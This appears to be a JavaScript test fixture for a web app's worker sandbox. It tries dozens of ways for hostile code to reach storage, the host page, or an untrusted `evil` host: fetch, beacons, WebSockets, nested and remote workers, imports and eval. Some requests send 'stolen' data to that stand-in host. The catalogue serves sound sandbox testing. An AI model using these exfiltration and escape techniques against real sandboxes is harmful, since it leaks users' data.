/**
 * What hostile code tries, as the body of an async function that is given `evil` (a host that was never allowed) and `app` (the
 * page's address), and gives back what it got hold of, by name. "refused" means that nothing came of it. The same text runs in
 * a task, where all must be refused, and in plain workers, where it must succeed: a test that cannot see a leak proves nothing.
 *
 * What goes to the network goes to a path of the attempt's own name, so that the host's hits say which attempt got through.
 */
/* eslint-disable no-eval, no-implied-eval, no-new-func -- what must not work is what is tried */
const found = {};
const going = [];
const silence = (after) =>
  new Promise((_, reject) =>
    setTimeout(() => reject(new Error("no answer")), after),
  );
const limit = (promise) => Promise.race([promise, silence(5000)]);
const attempt = (name, action) => {
  const path = evil + "/" + name.replaceAll(" ", "-");
  const tried = (async () => action(path))();
  going.push(
    limit(tried).then(
      (got) => (found[name] = String(got)),
      () => (found[name] = "refused"),
    ),
  );
};
/** Rejects unless something was got: a missing function would look like a success. */
const some = (value) => {
  if (value === undefined || value === null || value === false)
    throw new Error("nothing");
  return value;
};
const request = (opening) =>
  new Promise((resolve, reject) => {
    opening.onsuccess = () => resolve(opening.result);
    opening.onerror = () => reject(opening.error);
    opening.onblocked = () => reject(new Error("blocked"));
  });
const heard = (target, ...good) =>
  new Promise((resolve, reject) => {
    for (const name of good) target["on" + name] = () => resolve(name);
    target.onerror = () => reject(new Error("error"));
  });
const script = (text) =>
  URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const fetching = (address) =>
  "fetch('" + address + "').then(r => postMessage(r.status), () => close())";
const inWorker = (url, options) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(url, options);
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = (event) => {
      // What is not taken here would fail the task.
      event.preventDefault();
      reject(new Error("worker error"));
    };
  });

// what the app keeps
attempt(
  "indexedDB",
  async () => "opened " + (await request(indexedDB.open("flowbook"))).name,
);
attempt("indexedDB.databases", async () =>
  (await indexedDB.databases()).map((entry) => entry.name).join(),
);
attempt(
  "indexedDB.deleteDatabase",
  async () => (await request(indexedDB.deleteDatabase("attack")), "deleted"),
);
attempt("localStorage", () => globalThis.localStorage.getItem("secret"));
attempt("sessionStorage", () => some(globalThis.sessionStorage));
attempt("cookies", () => globalThis.document.cookie);
attempt("cookieStore", async () =>
  some((await globalThis.cookieStore.set("attack", "1"), "set")),
);
attempt(
  "caches",
  async () =>
    "opened " +
    (await (await globalThis.caches.open("flowbook-attack")).keys()).length,
);
attempt(
  "opfs",
  async () => (await navigator.storage.getDirectory()).name + "opened",
);
// navigator.storage.persisted() is left out: it gives nothing, and in an opaque origin Firefox never returns from it.
attempt(
  "storageBuckets",
  async () => (await navigator.storageBuckets.open("flowbook-attack")).name,
);
attempt("locks", async () => navigator.locks.request("flowbook", () => "held"));
attempt("broadcast", () => {
  const channel = new BroadcastChannel("flowbook-test");
  channel.postMessage("stolen");
  const answer = new Promise((resolve) => {
    channel.onmessage = (event) => resolve(event.data);
  });
  return Promise.race([answer, silence(700)]);
});

// the page
attempt("parent", () => globalThis.parent.document.title);
attempt("top", () => globalThis.top.location.href);
attempt("opener", () => some(globalThis.opener));
attempt("frames", () => some(globalThis.frames));
attempt("clients", async () => (await globalThis.clients.matchAll()).length);
attempt(
  "serviceWorker",
  async () => (await navigator.serviceWorker.register(app)).scope,
);
attempt("serviceWorkers", async () =>
  some((await navigator.serviceWorker.getRegistrations()).length || null),
);
attempt("app by fetch", async () => (await fetch(app)).text());
attempt(
  "app by fetch without cors",
  async () => (await fetch(app, { mode: "no-cors" })).type,
);
attempt("app by import", async () => some(await import(app)));
attempt(
  "app by importScripts",
  () => (globalThis.importScripts(app), "loaded"),
);
attempt("open", () => some(globalThis.open(evil)));
attempt("navigate", () => {
  const before = String(location);
  location.href = evil + "/navigate";
  return String(location) === before ? Promise.reject(new Error()) : "gone";
});
attempt("notification", (path) =>
  heard(new globalThis.Notification("attack", { icon: path }), "show"),
);

// the network, by every means that a worker has
attempt("fetch", async (path) => (await fetch(path)).status);
attempt(
  "fetch post",
  async (path) =>
    (await fetch(path, { method: "POST", mode: "no-cors", body: "stolen" }))
      .type,
);
attempt(
  "fetch no-cors",
  async (path) => (await fetch(path, { mode: "no-cors" })).type,
);
attempt(
  "fetch keepalive",
  async (path) =>
    (
      await fetch(
        new Request(path, {
          keepalive: true,
          credentials: "include",
          mode: "no-cors",
        }),
      )
    ).type,
);
attempt("fetch later", (path) => some(globalThis.fetchLater(path)));
attempt(
  "fetch by number",
  async (path) => (await fetch(path.replace("127.0.0.1", "2130706433"))).status,
);
attempt(
  "fetch by name",
  async (path) => (await fetch(path.replace("127.0.0.1", "localhost"))).status,
);
attempt(
  "fetch with a name",
  async (path) =>
    (await fetch(path.replace("//", "//blob:data@"), { mode: "no-cors" })).type,
);
attempt("XMLHttpRequest", (path) => {
  const xhr = new XMLHttpRequest();
  xhr.open("GET", path);
  xhr.send();
  return heard(xhr, "load");
});
attempt("XMLHttpRequest waiting", (path) => {
  const xhr = new XMLHttpRequest();
  xhr.open("GET", path, false);
  xhr.send();
  return some(xhr.status || null);
});
attempt("events", async (path) => {
  const source = new EventSource(path);
  try {
    return await heard(source, "open");
  } finally {
    source.close();
  }
});
attempt("WebSocket", (path) =>
  heard(new WebSocket(path.replace("http", "ws")), "open"),
);
attempt("WebSocketStream", async (path) =>
  some(await new globalThis.WebSocketStream(path.replace("http", "ws")).opened),
);
attempt("WebTransport", async (path) => {
  const transport = new globalThis.WebTransport(
    path.replace("http:", "https:"),
  );
  transport.closed.catch(() => {});
  await transport.ready;
  return "open";
});
attempt("RTCPeerConnection", () => typeof new globalThis.RTCPeerConnection());
attempt("sendBeacon", (path) => some(navigator.sendBeacon(path)));
attempt(
  "FontFace",
  async (path) =>
    (await new FontFace("evil", "url(" + path + ")").load()).status,
);
attempt("fonts", async (path) => {
  const font = new FontFace("evil2", "url(" + path + ")");
  self.fonts.add(font);
  return some((await self.fonts.load("12px evil2")).length || null);
});
attempt("picture", async (path) => {
  const svg =
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='" +
    path +
    ".svg'/></svg>";
  return (await createImageBitmap(new Blob([svg], { type: "image/svg+xml" })))
    .width;
});
attempt("backgroundFetch", () => some(globalThis.registration.backgroundFetch));

await Promise.all(going);

// code from elsewhere, which carries what it is asked with in its address
attempt(
  "importScripts",
  (path) => (globalThis.importScripts(path + ".js?stolen"), "loaded"),
);
attempt("import", async (path) => (await import(path + ".js"), "loaded"));
attempt(
  "import json",
  async (path) => (
    await import(path + ".json", { with: { type: "json" } }),
    "loaded"
  ),
);
attempt(
  "static import",
  async (path) => (await import(script("import '" + path + ".js'")), "loaded"),
);
attempt(
  "static export",
  async (path) => (
    await import(script("export * from '" + path + ".js'")),
    "loaded"
  ),
);
attempt(
  "import of an import",
  async (path) => (
    await import(script("import '" + script("import '" + path + ".js'") + "'")),
    "loaded"
  ),
);
attempt(
  "import of data",
  async (path) => (
    await import("data:text/javascript,import '" + path + ".js'"),
    "loaded"
  ),
);
attempt(
  "source map",
  async (path) => (
    await import(script("throw 1\n//# sourceMappingURL=" + path)),
    "loaded"
  ),
);

// Firefox blocks for ever when a worker starts another while it imports.
await Promise.all(going);

// workers within workers: a policy that only the first of them has is none
attempt("nested worker", (path) => inWorker(script(fetching(path))));
attempt("nested module worker", (path) =>
  inWorker(script(fetching(path)), { type: "module" }),
);
attempt("nested importing worker", (path) =>
  inWorker(script("importScripts('" + path + ".js'); postMessage(1)")),
);
attempt("worker in a worker in a worker", (path) =>
  inWorker(
    script(
      "const w = new Worker(" +
        JSON.stringify(script(fetching(path))) +
        "); w.onmessage = e => postMessage(e.data); w.onerror = () => close()",
    ),
  ),
);
attempt("data worker", (path) =>
  inWorker("data:text/javascript," + encodeURIComponent(fetching(path))),
);
attempt("data worker in a worker", (path) => {
  const inner = "data:text/javascript," + encodeURIComponent(fetching(path));
  return inWorker(
    script(
      "const w = new Worker(" +
        JSON.stringify(inner) +
        "); w.onmessage = e => postMessage(e.data); w.onerror = () => close()",
    ),
  );
});
attempt("shared blob worker", (path) =>
  heard(new SharedWorker(script("fetch('" + path + "')")), "connect"),
);

// code made of text, by which other defences are got around
attempt("eval", () => (0, eval)("'evaluated'"));
attempt("Function", () => new Function("return 'evaluated'")());
attempt("AsyncFunction", () =>
  (async () => {}).constructor("return 'evaluated'")(),
);
attempt("timer of text", () => {
  const evaluated = new Promise((resolve) => {
    globalThis.attackEvaluated = resolve;
  });
  setTimeout("attackEvaluated('evaluated')");
  return Promise.race([evaluated, silence(700)]);
});

await Promise.all(going);

// Last: a plain worker of Firefox may block for ever in one of these.
attempt("remote worker", (path) => inWorker(path + ".js"));
attempt("remote module worker", (path) =>
  inWorker(path + ".js", { type: "module" }),
);
attempt("shared worker", (path) =>
  heard(new SharedWorker(path + ".js"), "connect"),
);
attempt("app as a worker", () => inWorker(app));
attempt("app as a shared worker", async () =>
  heard(new SharedWorker(app), "connect"),
);
await Promise.all(going);
return found;
